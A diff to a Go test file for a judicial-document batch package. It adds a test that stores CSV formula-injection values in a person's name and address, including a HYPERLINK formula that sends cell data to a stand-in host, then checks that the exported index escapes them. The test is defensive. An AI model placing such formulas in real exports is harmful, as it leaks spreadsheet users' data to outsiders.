@@ -2,6 +2,7 @@ package lotto_test
 
 import (
 	"bytes"
+	"encoding/csv"
 	"fmt"
 	"slices"
 	"strings"
@@ -140,6 +141,35 @@ func (b *banco) informa(t *testing.T, nome string) *pdfcpu.PDFInfo {
 		t.Fatal(err)
 	}
 	return x
+}
+
+// TestIndiceSenzaFormule: what a stranger made the name and the address of somebody is no formula for who opens the index.
+func TestIndiceSenzaFormule(t *testing.T) {
+	t.Parallel()
+	b := nuovoBanco(t)
+	ids := b.conAtto(t, 1)
+	b.Esegui(t, "elaborazione", "alfa", `UPDATE soggetto SET cognome = '=HYPERLINK("http://x.example?"&A1)', indirizzo = '@SUM(A1)'
+		WHERE id IN (SELECT soggetto FROM posizione WHERE verbale = $1)`, ids[0])
+	b.lavora(t, b.chiude(t), "m", 1)
+	indice, err := b.Deposito.Leggi(b.ctx, "alfa", b.leggi(t, `SELECT sha256 FROM lotto_file WHERE nome = 'index.csv'`)[0])
+	if err != nil {
+		t.Fatal(err)
+	}
+	testo, segnato := strings.CutPrefix(string(indice), "\ufeff")
+	if !segnato || !strings.Contains(testo, `"'=HYPERLINK(`) || !strings.Contains(testo, "'@SUM(A1)") {
+		t.Errorf("%q", indice)
+	}
+	lettore := csv.NewReader(strings.NewReader(testo))
+	lettore.Comma = ';'
+	righe, err := lettore.ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, cella := range slices.Concat(righe...) {
+		if cella != "" && strings.ContainsRune("=+-@", rune(cella[0])) {
+			t.Errorf("a spreadsheet runs %q", cella)
+		}
+	}
 }
 
 // TestProdotto: a judicial act by post inside Italy, a registered letter abroad.
